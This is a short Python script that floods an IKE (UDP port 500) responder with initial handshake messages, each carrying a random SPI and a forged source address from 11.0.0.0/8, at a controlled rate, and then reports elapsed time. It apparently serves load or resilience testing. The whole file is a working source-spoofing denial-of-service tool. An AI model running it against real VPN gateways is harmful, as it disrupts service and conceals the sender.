#!/usr/bin/env python3
"""spoof.py OPENING DESTINATION COUNT RATE: first messages with SPIs and sources (11.0.0.0/8) of their own, so many a second."""
import os
import random
import socket
import struct
import sys
import time


def main():
    opening, destination = bytearray.fromhex(sys.argv[1]), socket.inet_aton(sys.argv[2])
    count, rate = int(sys.argv[3]), float(sys.argv[4])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = (sys.argv[2], 0)
    length = 28 + len(opening)
    # The kernel fills in the checksum of IP; UDP's may be missing.
    udp = struct.pack("!HHHH", 500, 500, 8 + len(opening), 0)
    begin = time.monotonic()
    for number in range(count):
        opening[:8] = os.urandom(8)
        source = struct.pack("!I", 0x0B000001 + random.randrange(0xFFFFF0))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0, source, destination)
        raw.sendto(ip + udp + opening, to)
        if number % 50 == 0:
            ahead = begin + number / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print("%.2f" % (time.monotonic() - begin))


if __name__ == "__main__":
    main()
